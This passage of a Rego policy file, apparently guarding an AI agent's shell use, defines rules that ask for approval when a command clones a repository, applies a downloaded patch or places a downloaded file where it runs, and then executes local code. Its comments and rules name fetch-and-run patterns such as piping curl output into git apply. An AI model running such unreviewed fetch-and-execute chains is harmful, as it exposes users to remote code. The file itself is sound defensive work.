	msg := sprintf("This command fetches code (`%s`) whose files are not known in advance and then runs local code (`%s`). %s", [concat(" ", fetch.argv), concat(" ", run.argv), advice])
}

_segment_after(seg) if {
	some s in segments
	s.id > seg.id
}

_repo_fetchers := {"gh", "glab", "hub", "degit", "tiged", "svn", "hg", "bzr", "brz", "fossil", "darcs", "pijul", "sl", "jj", "ghq", "git", "tea", "cvs"}

_fetch_words(seg) := [a | some a in shell.args(seg); not startswith(a, "-")]

_fetches_repository(seg) := "clone" if {
	shell.runs_any(seg, {"gh", "glab", "tea"})
	w := _fetch_words(seg)
	count(w) >= 2
	w[0] in {"repo", "gist", "repos"}
	w[1] in {"clone", "fork"}
	_clones_or_forks_with_clone(seg, w[1])
} else := "clone" if {
	shell.runs_any(seg, {"hub", "tea"})
	"clone" in _fetch_words(seg)
} else := "clone" if {
	shell.runs_any(seg, {"degit", "tiged"})
	count(_fetch_words(seg)) > 0
} else := "clone" if {
	shell.runs_any(seg, {"svn", "cvs"})
	some w in array.slice(_fetch_words(seg), 0, 1)
	w in {"checkout", "co", "export"}
} else := "clone" if {
	shell.runs_any(seg, {"hg", "bzr", "brz", "fossil", "darcs", "pijul", "sl"})
	some w in array.slice(_fetch_words(seg), 0, 1)
	w in {"clone", "branch", "checkout", "co", "get"}
} else := "clone" if {
	shell.runs(seg, "jj")
	w := _fetch_words(seg)
	count(w) >= 2
	w[0] == "git"
	w[1] == "clone"
} else := "clone" if {
	shell.runs(seg, "ghq")
	some w in array.slice(_fetch_words(seg), 0, 1)
	w in {"get", "clone"}
} else := "clone" if {
	shell.runs(seg, "git")
	args := shell.args(seg)
	some i, a in args
	a == "submodule"
	"add" in array.slice(args, i + 1, count(args))
} else := "in place" if {
	# git pull|fetch URL: a repository that is not a configured remote
	shell.runs(seg, "git")
	args := shell.args(seg)
	some i, a in args
	a in {"pull", "fetch"}
	some u in array.slice(args, i + 1, count(args))
	_repository_url(u)
} else := "in place" if {
	# … or a remote added or changed earlier in the same command
	shell.runs(seg, "git")
	args := shell.args(seg)
	some a in args
	a in {"pull", "fetch"}
	some conf in shell.running({"git"})
	conf.id < seg.id
	cargs := shell.args(conf)
	"remote" in cargs
	some v in cargs
	v in {"add", "set-url"}
} else := "in place" if {
	shell.runs_any(seg, {"hg", "sl"})
	w := _fetch_words(seg)
	count(w) >= 2
	w[0] == "pull"
	some u in array.slice(w, 1, count(w))
	_repository_url(u)
} else := "in place" if {
	shell.runs_any(seg, {"gh", "glab"})
	w := _fetch_words(seg)
	count(w) >= 2
	w[0] in {"run", "job"}
	w[1] in {"download", "artifact"}
	some a in shell.args(seg)
	regex.match(`^(-R|--repo)(=.*)?$|^-R.+`, a)
}

# a patch fetched from the network applied to the working tree (`curl URL | git apply`,
# `wget -O fix.diff URL && patch -p1 < fix.diff`, `curl URL | git am`) and then local code
# run (make, npm, a test runner, a script): the build runs code nobody has read. Applying a
# fetched patch alone passes.
ask contains msg if {
	some ran in data.claude_rego.lib.shell.downloaders & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	some pname in {"git", "patch"} & data.claude_rego.lib.shell.names
	some apply in shell.running({pname})
	apply.id > fetch.id
	_applies_patch(apply)
	_patch_from(fetch, apply)
	some run in segments
	run.id > apply.id
	_runs_fetched_code("in place", run)
	msg := sprintf("This command applies a patch fetched from the network (`%s`, then `%s`) and then runs local code (`%s`), which now includes the unreviewed change. %s", [concat(" ", fetch.argv), concat(" ", apply.argv), concat(" ", run.argv), advice])
}

_applies_patch(seg) if {
	shell.runs(seg, "git")
	w := _fetch_words(seg)
	count(w) > 0
	w[0] in {"apply", "am"}
}

_applies_patch(seg) if shell.runs(seg, "patch")

_patch_from(fetch, apply) if _fed_from(fetch, apply)

_patch_from(fetch, apply) if {
	names := downloaded(fetch)
	some a in shell.operands(apply)
	_file_name(a) in names
}

_patch_from(fetch, apply) if {
	names := downloaded(fetch)
	some r in apply.redirects
	r.op == "<"
	_file_name(r.target) in names
}

_clones_or_forks_with_clone(_, "clone") := true

_clones_or_forks_with_clone(seg, "fork") if {
	some a in shell.args(seg)
	regex.match(`^--clone(=true)?$`, a)
}

_repository_url(u) if regex.match(`^(https?|ssh|git|file)://|^[A-Za-z0-9._-]+@[A-Za-z0-9._-]+:|^/|^\.\.?/`, u)

_repository_url(u) if contains(u, "$")

_runs_fetched_code(_, run) if _runs_local_code(run)

_runs_fetched_code("in place", run) if {
	count(run.argv) > 0
	_executes_something(run)
}

_runs_fetched_code("in place", run) if shell.runs_any(run, {"npm", "pnpm", "yarn", "bun", "make", "gmake", "cmake", "ninja", "just", "task", "rake", "tox", "nox", "gradle", "mvn", "bundle", "composer", "poetry", "pdm", "uv", "pip", "pip3", "go", "cargo", "dotnet", "deno", "node", "ruby", "perl", "php", "python", "python3", "sh", "bash", "zsh", "pytest", "pre-commit"})

# the 2 deny and 2 ask bodies that open with `some fetch in _copy_fetch_segments`, behind
# one test (most commands have none: one body visited, not 4)
deny contains msg if {
	count(_copy_fetch_segments) > 0
	some msg in _copyfetch_deny
}

ask contains msg if {
	count(_copy_fetch_segments) > 0
	some msg in _copyfetch_ask
}

# ------------------------------------------------------------ a download put where it runs

# A downloaded file turned into a program, a hook or a configuration that runs code in the
# same command, whatever its name says (`curl -o x.json URL; mv x.json bin/tool`, `install
# -m755 x bin/tool`, `ln -s x.txt scripts/run`, `docker compose -f x.yml up`, `docker load -i
# x.tar`, `cargo --config x.toml build`, `kubectl apply -f x.yml`, `pip install -r x.txt`),
# Hooks are config_exec's (`unzip -d .git/hooks`). Reading the download (`jq . x.json`) and
# unpacking it (`curl -LO …tar.gz && tar xzf …`, a release or a dataset: an everyday step whose
# files are judged when they run) pass.
ask contains msg if {
	some ran in data.claude_rego.lib.shell.downloaders & data.claude_rego.lib.shell.names
	some fetch in shell.running({ran})
	_segment_after(fetch)
	names := downloaded(fetch) | downloaded_by_tee(fetch)
	some run in segments
	run.id > fetch.id
	how := _puts_to_run(run, names)
	msg := sprintf("This command downloads a file with `%s` and then %s (`%s`) in one go: what it holds then runs unreviewed. %s", [shell.name(fetch), how, concat(" ", run.argv), advice])
}

# mv/cp/install/ln with a downloaded source and a destination in a program directory
_puts_to_run(run, names) := "makes it a program" if {
	shell.runs_any(run, {"mv", "cp", "install", "ln", "gmv", "gcp", "ginstall", "rsync"})
	ops := shell.operands(run)
	count(ops) > 1
	some i, src in ops
	i < count(ops) - 1
	_file_name(src) in names
	_program_place(run, ops[count(ops) - 1])
}

# mv/cp/install/ln -t DIR SRC… (--target-directory=DIR): the destination is the option's value
_puts_to_run(run, names) := "makes it a program" if {
	shell.runs_any(run, {"mv", "cp", "install", "ln", "gmv", "gcp", "ginstall"})
	dest := shell.option_value(run, {"-t", "--target-directory"})
	some src in shell.operands(run)
	src != dest
	_file_name(src) in names
	_program_place(run, dest)
}

# cat x.json > bin/tool, cat < x.json > bin/tool, dd if=x of=bin/tool: a copy by a redirect
_puts_to_run(run, names) := "makes it a program" if {
	shell.runs_any(run, {"cat", "tac", "head", "tail", "cp", "dd", "tee", "base64", "xxd", "gunzip", "zcat"})
	some src in array.concat(shell.args(run), [r.target | some r in run.redirects; r.op == "<"])
	_file_name(trim_prefix(src, "if=")) in names
	some dest in array.concat([r.target | some r in run.redirects; r.op in {">", ">>", ">|", "&>", "&>>"}], [trim_prefix(a, "of=") | some a in shell.args(run); startswith(a, "of=")])
	_program_place(run, dest)
}

# docker compose -f F, docker load -i F, cargo --config F, kubectl apply -f F, helm install F,
# pip install -r F: the file is a configuration, an image or a list of packages that runs
_puts_to_run(run, names) := "runs it as a configuration, image or package list" if {
	shell.runs_any(run, _run_config_programs)
	not _only_reads(run)
	args := shell.args(run)
	some i, a in args
	_file_name(_option_file(args, i, a)) in names
}

_program_place(run, dest) if {
	some part in split(lower(trim(dest, "\"'")), "/")
	part in {"bin", "sbin", ".bin", "scripts", "script", "hooks", "libexec", ".husky", "git-hooks", "githooks"}
}

# install without a mode, or with an executable one, makes a program wherever it puts it
_program_place(run, _) if {
	shell.runs_any(run, {"install", "ginstall"})
	not _plain_install_mode(run)
}

_plain_install_mode(run) if {
	some i, a in shell.args(run)
	a in {"-m", "--mode"}
	regex.match(`^0?[246][0-7]{2}$|^[ugoa]*[=+][rw]*$`, shell.args(run)[i + 1])
}

_plain_install_mode(run) if {
	some a in shell.args(run)
	regex.match(`^(-m|--mode=)0?[246][0-7]{2}$`, a)
}

_run_config_programs := {
	"docker", "docker-compose", "podman", "podman-compose", "nerdctl", "kubectl", "oc", "helm", "kustomize", "cargo",
	"terraform", "tofu", "pre-commit", "tox", "nox", "pip", "pip3", "uv", "pipenv", "npm", "pnpm", "yarn", "skaffold",
	"tilt", "vagrant", "packer", "nix", "nix-build", "nix-shell", "devcontainer", "act", "gradle", "mvn", "sbt", "bazel",
}

# `docker compose config`, `kubectl diff`/`--dry-run=client`, `helm template`/`lint`: read only
_only_reads(run) if {
	some a in shell.args(run)
	a in {"config", "diff", "template", "lint", "--dry-run", "--dry-run=client", "validate", "fmt", "show"}
}

# the value of a file option (-f F, --file=F, -i F, --config F, -r F, -c F, -e F), or an operand
_option_file(args, i, a) := args[i + 1] if {
	a in {"-f", "--file", "-i", "--input", "--config", "-r", "--requirement", "-c", "--constraint", "--values", "--env-file", "-e", "--settings", "--init-script", "-I", "--userconfig", "--global-settings", "-s"}
	count(args) > i + 1
} else := substring(a, indexof(a, "=") + 1, -1) if {
	regex.match(`^--(file|input|config|requirement|constraint|values|env-file|settings|init-script|userconfig|global-settings)=`, a)
} else := a

